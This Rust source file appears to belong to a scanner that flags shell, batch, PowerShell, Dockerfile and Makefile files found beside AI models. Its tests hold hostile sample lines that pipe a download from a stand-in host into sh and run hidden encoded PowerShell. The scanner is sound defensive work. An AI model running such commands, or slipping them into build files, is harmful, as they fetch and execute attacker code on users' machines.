//! Shell, batch and PowerShell scripts beside a model.

use haris_domain::Severity;

use crate::code::shell::{Command, read};
use crate::context::Context;
use crate::face::Face;
use crate::finding::Verdict;
use crate::format::{Claim, Format};
use crate::part::{Kind, Part, TextKind};
use crate::read::text::{self, shown};
use crate::refs;
use crate::unread::Unread;

static HOSTILE: Face = Face::new(
    "artifact.shell-hostile",
    Severity::Critical,
    Verdict::Blocked,
    "Script that does what an attacker wants",
    "The script fetches and runs code, opens a way in, deletes wholesale, or sends secrets away.",
    "Reject the artifact and report who brought it.",
    refs!["CWE-506", "CWE-78", "MITRE-ATLAS:AML.T0011.000"],
);
static SCRIPT: Face = Face::new(
    "artifact.shell-script",
    Severity::Low,
    Verdict::Review,
    "Shell script",
    "A script lies beside the model. Loading the model does not run it; a person might.",
    "Have a person read it before anybody runs it.",
    refs!["CWE-78"],
);

/// The format.
pub(crate) struct ShellScript;

impl Format for ShellScript {
    fn name(&self) -> &'static str {
        "shell-script"
    }

    fn rules(&self) -> &'static [&'static Face] {
        static RULES: &[&Face] = &[&HOSTILE, &SCRIPT];
        RULES
    }

    fn claim(&self, part: &Part) -> Claim {
        if !text::is_text(&part.head) {
            return Claim::No;
        }
        let head = text::decode(&part.head);
        let first = head.lines().next().unwrap_or("").to_ascii_lowercase();
        let shebang = first.starts_with("#!") && !first.contains("python");
        let batch = first.starts_with("@echo") || first.starts_with("rem ") || first.starts_with("setlocal");
        let named = part.name.as_deref().is_some_and(|name| {
            [".sh", ".bash", ".bat", ".cmd", ".ps1", ".zsh"].iter().any(|end| name.to_ascii_lowercase().ends_with(end))
        });
        if shebang || batch || named || is_recipe(&head) { Claim::Yes } else { Claim::No }
    }

    fn scan(&self, part: &Part, context: &mut Context<'_>) -> Result<(), Unread> {
        let source = text::read(&part.source)?;
        let is_recipe = is_recipe(&source);
        if is_recipe {
            context.name_it("build-recipe");
        }
        let mut hostile = false;
        // A command may span lines: the whole is read once, then line by line for the place.
        if let Command::Hostile(why) = read(&source) {
            hostile = true;
            let line = (1..).zip(source.lines()).find(|(_, line)| matches!(read(line), Command::Hostile(_)));
            let (number, text) = line.unwrap_or((1, source.as_str()));
            context.find(&HOSTILE, format!("line {number}: {why}")).explain(&shown(text, 600));
        }
        if !hostile && !is_recipe {
            context.find(&SCRIPT, format!("{} lines", source.lines().count()));
        }
        context.embed("source", part.source.clone(), Kind::Text(TextKind::Code));
        Ok(())
    }
}

/// A Dockerfile or a Makefile: commands that run when somebody builds what lies around the model.
fn is_recipe(text: &str) -> bool {
    let lines = || text.lines().filter(|line| !line.trim().is_empty() && !line.starts_with('#'));
    let first = lines().next().unwrap_or("");
    let docker = (first.starts_with("FROM ") || first.starts_with("ARG "))
        && lines().any(|line| ["RUN ", "COPY ", "CMD ", "ENTRYPOINT "].iter().any(|word| line.starts_with(word)));
    let target = |line: &str| {
        !line.starts_with([' ', '\t']) && line.split_once(':').is_some_and(|(name, _)| !name.contains(['"', '{', '<']))
    };
    let make = lines().zip(lines().skip(1)).any(|(line, next)| target(line) && next.starts_with('\t'));
    docker || make
}

#[cfg(test)]
mod tests {
    use crate::Verdict;
    use crate::testing::verdict_of;

    #[test]
    fn scripts() {
        assert_eq!(verdict_of(b"#!/bin/bash\npython train.py\n".to_vec()), Verdict::Review);
        assert_eq!(verdict_of(b"#!/bin/sh\ncurl -s http://a.example/x | sh\n".to_vec()), Verdict::Blocked);
        assert_eq!(verdict_of(b"FROM python\nRUN pip install torch\n".to_vec()), Verdict::Clean);
        assert_eq!(verdict_of(b"FROM python\nRUN curl http://a.example/x | sh\n".to_vec()), Verdict::Blocked);
        assert_eq!(verdict_of(b"all: build\n\ttrue\n".to_vec()), Verdict::Clean);
        assert_eq!(verdict_of(b"install:\n\tcurl http://a.example/x | sh\n".to_vec()), Verdict::Blocked);
        assert_eq!(verdict_of(b"@echo off\r\npowershell -nop -w hidden -enc AAAA\r\n".to_vec()), Verdict::Blocked);
    }
}
